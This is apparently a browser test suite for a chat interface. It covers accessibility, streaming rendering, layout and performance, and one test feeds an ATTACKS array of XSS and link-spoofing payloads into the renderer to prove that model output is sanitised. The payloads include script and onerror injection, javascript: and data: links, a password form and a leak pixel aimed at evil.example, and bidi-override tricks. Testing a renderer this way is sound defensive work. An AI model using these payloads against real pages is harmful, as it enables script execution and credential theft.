/** How the page reads and writes: keyboard, listening, narrow screens, hostile answers, long talks. */
import assert from 'node:assert/strict';
import { openBrowser } from './page/on-page.ts';
import {
  axeFaults,
  contrastFaults,
  longestFrameMs,
  seedConversation,
  structureFaults,
  watchEarlierTurns,
} from './page/inspect.ts';

const { test } = await openBrowser();

test('switches language and theme at once and remembers both', async ({ driver, server }) => {
  await driver.page.getByRole('button', { name: 'Cambiar a español' }).click();
  await driver.page.getByPlaceholder('Escribe un mensaje').waitFor();
  await driver.status.getByText('En línea').waitFor();
  await server.until(() => server.calls.some(({ method }) => method === 'session.locale'));
  await driver.page.getByRole('button', { name: 'Tema: el del sistema' }).click();
  await driver.page.getByRole('button', { name: 'Tema: claro' }).click();
  await driver.reload();
  assert.deepEqual(
    await driver.page.evaluate('[document.documentElement.lang, document.documentElement.dataset.theme]'),
    ['es', 'dark'],
  );
  await driver.send('¿qué tal?');
  (await server.exchange(1)).reply('The weather is fine and you are here with me.');
  await driver.answered('The weather');
  assert.equal(await driver.lastAnswer.getAttribute('lang'), 'en');
});

test('can be used with the keyboard alone', async ({ driver, server }) => {
  const { page } = driver;
  const focused = () =>
    page.evaluate<string>('document.activeElement.id || document.activeElement.ariaLabel');
  assert.equal(await focused(), 'composer');
  await page.keyboard.type('first line');
  await page.keyboard.press('Shift+Enter');
  await page.keyboard.type('second line');
  await page.keyboard.press('Enter');
  const exchange = await server.exchange(1);
  assert.equal(exchange.text, 'first line\nsecond line');
  exchange.start().delta('An answer');
  await driver.answered('An answer');
  await page.keyboard.press('Escape');
  await driver.phase('stopped');
  assert.equal(await focused(), 'composer');
  await page.keyboard.press('Tab');
  assert.equal(await focused(), 'Send');
  await driver.proof('proved');
  for (let step = 0; step < 2; step += 1) await page.keyboard.press('Shift+Tab');
  assert.equal(await focused(), 'Attach files');
  await page.keyboard.press('Shift+Tab');
  assert.equal(await focused(), 'Receipt checked. Details');
  await page.keyboard.press('Shift+Tab');
  assert.equal(await focused(), 'Copy answer');
  await page.keyboard.press('Shift+Tab');
  assert.equal(await focused(), 'Conversation');
});

test('leaves Enter to an input method that composes', async ({ driver, server }) => {
  await driver.composer.fill('に');
  await driver.page.evaluate(`document.querySelector('#composer').dispatchEvent(
  new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true }))`);
  assert.equal(await driver.composer.inputValue(), 'に');
  assert.equal(server.exchanges.length, 0);
});

test('runs nothing that a model writes and fetches nothing', async ({ driver, server }) => {
  await driver.send('attack');
  (await server.exchange(1)).reply(ATTACKS.join('\n\n'));
  await driver.answered('the last word');
  await driver.phase('done');
  const found = await driver.page.evaluate(`[...document.querySelectorAll('.prose *')].filter((e) =>
  /^(script|img|iframe|svg|style|object|embed|form|input|base|link|meta|math|video)$/i.test(e.tagName) ||
  [...e.attributes].some(({ name, value }) =>
    /^on|^style$|^id$/i.test(name) || /^\\s*(javascript|data|vbscript):/i.test(value))
  ).map((e) => e.outerHTML)`);
  assert.deepEqual(found, []);
  assert.equal(await driver.page.evaluate('window.hurt'), undefined);
  const links = await driver.page.evaluate<[string, string, string][]>(
    "[...document.querySelectorAll('.prose a')].map((a) => [a.rel, a.target, new URL(a.href).protocol])",
  );
  assert.ok(links.length > 0);
  for (const [rel, target, protocol] of links) {
    assert.equal(rel, 'noopener noreferrer nofollow');
    assert.equal(target, '_blank');
    assert.match(protocol, /^(?:https?|mailto):$/);
  }
  await driver.lastAnswer.getByText('evil.example').first().waitFor();
});

test('lets no text turn round where a link leads', async ({ driver, server }) => {
  await driver.send('one\u202Etwo');
  const exchange = await server.exchange(1);
  exchange.start().delta('At \u202E[x](https://evil.example/a) and &#x202E;[y](https://evil.example/b) ');
  exchange.delta('\u2067&rlm;`co\u061Cde` [\u05D0](https://evil.example/c) end').finish();
  await driver.phase('done');
  assert.equal(
    await driver.answerText(),
    'At x evil.example and y evil.example code \u05D0 evil.example end',
  );
  const hosts = driver.lastAnswer.locator('bdi.link-host');
  assert.deepEqual(await hosts.allTextContents(), ['evil.example', 'evil.example', 'evil.example']);
  assert.equal(await driver.lastTurn.locator('.bubble').textContent(), 'onetwo');
});

test('draws an answer in pieces as it would draw it whole', async ({ driver, server }) => {
  // A definition at the end reaches back to the beginning, and everything is drawn once more.
  for (const [index, text] of [EVERYTHING, EVERYTHING.replace(/^\[1\]:.*$/m, '')].entries()) {
    await driver.send('everything');
    const exchange = await server.exchange(index + 1);
    exchange.start();
    for (let begin = 0; begin < text.length; begin += 9) {
      exchange.delta(text.slice(begin, begin + 9));
      await driver.page.evaluate('new Promise(requestAnimationFrame)');
    }
    exchange.finish();
    await driver.phase('done');
    // Colours and formulas come a little later than the text.
    const dressed = () =>
      driver.until(`((answer) => answer.querySelector('pre[data-language=js] code[data-coloured]')
        && answer.querySelectorAll('.math[data-source]').length === 2
      )([...document.querySelectorAll('.turn .prose')].at(-1))`);
    await dressed();
    const html = () => driver.lastAnswer.evaluate((element) => String(Reflect.get(element, 'innerHTML')));
    const inPieces = await html();
    await driver.reload();
    await driver.answered('The end');
    await dressed();
    assert.equal(inPieces, await html());
    assert.equal(inPieces.includes('href="https://late.example/"'), index === 0);
    assert.match(inPieces, /<ol.*<pre.*<table.*<blockquote.*<h4.*<pre/s);
  }
});

test('follows the end only while the reader is there', async ({ driver, server }) => {
  await driver.send('long');
  const exchange = await server.exchange(1);
  exchange.start().delta('line\n\n'.repeat(60));
  await driver.answered('line');
  await driver.until(`document.querySelector('.scroller').scrollHeight > 1500 && ${GAP} < 5`);
  await driver.scroller.hover();
  await driver.page.mouse.wheel(0, -600);
  const button = driver.page.locator('.to-end');
  await button.waitFor();
  // A wheel may move the page over several frames.
  await driver.until(`${GAP} > 595`);
  const before = await driver.page.evaluate("document.querySelector('.scroller').scrollTop");
  exchange.delta('more\n\n'.repeat(20) + 'the end');
  await driver.answered('the end');
  assert.equal(await driver.page.evaluate("document.querySelector('.scroller').scrollTop"), before);
  assert.ok((await driver.page.evaluate<number>(GAP)) > 600);
  await button.click();
  await driver.until(`${GAP} < 5`);
  assert.equal(await button.count(), 0);
});

test('speaks whole sentences to those who listen, and copies code', async ({ driver, server }) => {
  await driver.send('hello');
  const exchange = await server.exchange(1);
  exchange.start().delta('One sentence. And ano');
  await driver.page
    .locator('[aria-live="polite"] p', { hasText: 'One sentence.' })
    .waitFor({ state: 'attached' });
  assert.ok(!(await driver.spoken()).some((text) => text.includes('And ano')));
  exchange.delta('ther one.\n\n```js\nlet x = 1;\n```\n').finish();
  await driver.phase('done');
  await driver.page
    .locator('[aria-live="polite"] p', { hasText: 'End of the answer' })
    .waitFor({ state: 'attached' });
  const spoken = await driver.spoken();
  assert.deepEqual(spoken.slice(spoken.indexOf('One sentence.')), [
    'One sentence.',
    'And another one.',
    'Code',
    'End of the answer',
  ]);
  await driver.page.getByRole('button', { name: 'Copy', exact: true }).click();
  await driver.page.getByRole('button', { name: 'Copied', exact: true }).waitFor();
});

test('fits 320 pixels and 44 pixel fingers in both themes, with readable contrast', async ({
  driver,
  server,
}) => {
  await driver.page.setViewportSize({ width: 320, height: 640 });
  await driver.send('plan');
  (await server.exchange(1)).reply(WIDE);
  await driver.phase('done');
  await driver.send('fail');
  (await server.exchange(2)).fail('upstream_timeout');
  await driver.phase('failed');
  await driver.send('limit');
  (await server.exchange(3)).fail('rate_limited', { retryAfterMs: 60_000 });
  await driver.page.locator('.composer-notice').waitFor();
  for (const colorScheme of ['light', 'dark'] as const) {
    await driver.page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
    assert.ok((await driver.overflow()) <= 0);
    assert.deepEqual(await driver.smallTargets(), []);
    assert.deepEqual(await contrastFaults(driver.page), []);
  }
  assert.deepEqual(await structureFaults(driver.page), []);
});

test('gives axe nothing to find, in the light, in the dark and on a phone', async ({ driver, server }) => {
  const everywhere = async () => {
    for (const colorScheme of ['light', 'dark'] as const) {
      for (const size of [
        { width: 1100, height: 760 },
        { width: 360, height: 740 },
      ]) {
        await driver.page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
        await driver.page.setViewportSize(size);
        assert.deepEqual(await axeFaults(driver.page), [], `${colorScheme}, ${size.width}`);
      }
    }
  };
  await everywhere();
  await driver.send('everything');
  (await server.exchange(1)).reply(`### Begins deep\n\n${EVERYTHING}\n\n${WIDE}`);
  await driver.phase('done');
  await driver.proof('proved');
  await driver.until("document.querySelector('code[data-coloured]') && document.querySelector('math')");
  await everywhere();
  await driver.lastMark.click();
  await driver.dialog.getByText('What was not proved').waitFor();
  await everywhere();
});

test('keeps ten thousand messages still while an answer comes and the reader types', async ({
  driver,
  server,
}, context) => {
  const answers = Array.from({ length: 5_000 }, (_, n) => `Answer **${n}** in a few words.\n\n- one\n- two`);
  await seedConversation(driver.page, answers);
  await driver.reload();
  await driver.connected();
  await driver.until("document.querySelectorAll('.leaf').length === 250");
  await driver.send('a long answer, please');
  const exchange = await server.exchange(1);
  exchange.start();
  await driver.phase('thinking');
  await watchEarlierTurns(driver.page);
  const worstMs = await longestFrameMs(driver.page, async () => {
    for (let piece = 0; piece < 60; piece += 1) {
      exchange.delta(`Paragraph ${piece} with *some* words in it, and \`code\`.\n\n`);
      await driver.page.keyboard.press('x');
    }
  });
  context.diagnostic(`Longest frame among 10,000 messages: ${worstMs} ms`);
  exchange.finish();
  await driver.phase('done');
  assert.equal(await driver.composer.inputValue(), 'x'.repeat(60));
  assert.equal(await driver.lastAnswer.locator('p').count(), 60);
  assert.equal(await driver.page.evaluate('window.earlierChanges'), 0);
});

/** How far the reader is from the end. */
const GAP = '((e) => e.scrollHeight - e.scrollTop - e.clientHeight)(document.querySelector(".scroller"))';

const ATTACKS = [
  '<script>window.hurt = 1</script>',
  '<img src=x onerror="window.hurt = 1">',
  '<svg onload="window.hurt = 1"><style>*{display:none}</style></svg>',
  '<iframe srcdoc="<script>parent.hurt = 1</script>"></iframe>',
  '[click](javascript:window.hurt=1)',
  '[click]( JaVaScRiPt:window.hurt=1)',
  '[data](data:text/html;base64,PHNjcmlwdD5oaTwvc2NyaXB0Pg==)',
  '![pixel](https://evil.example/pixel.png?leak=1)',
  '![x](https://evil.example/"onerror="window.hurt=1)',
  '[https://bank.example](https://evil.example/)',
  '<a href="javascript:window.hurt=1" style="position:fixed;inset:0">cover</a>',
  '```html" onmouseover="window.hurt=1\n<b>code</b>\n```',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.hurt=1>',
  '<form action="https://evil.example"><input name=password></form>',
  '| a | b |\n|--|--|\n| <img src=x onerror=window.hurt=1> | c |',
  'the last word',
];

const EVERYTHING = `# A head

Some *text* with a [late link][1] and \`code\`.

1. one

2. two
   - nested
   - more

   still two
3. three

\`\`\`js
let a = 1;

\`\`not the end\`\`
\`\`\`

| a | b |
|---|--:|
| 1 | 2 |

> said
> twice

A title
---

$$
a_1 * b_1 * c = \\frac{1}{2}
$$

Within a line, $x^2$ stands.

~~~
tildes
~~~
[1]: https://late.example/

The end`;

const WIDE = [
  'A_very_long_word_without_any_break_'.repeat(6),
  '| one column | another column | a third column | a fourth column |\n|--|--|--|--|\n| 1 | 2 | 3 | 4 |',
  '```\n' + 'x'.repeat(300) + '\n```',
  'See https://example.org/' + 'path/'.repeat(40),
].join('\n\n');
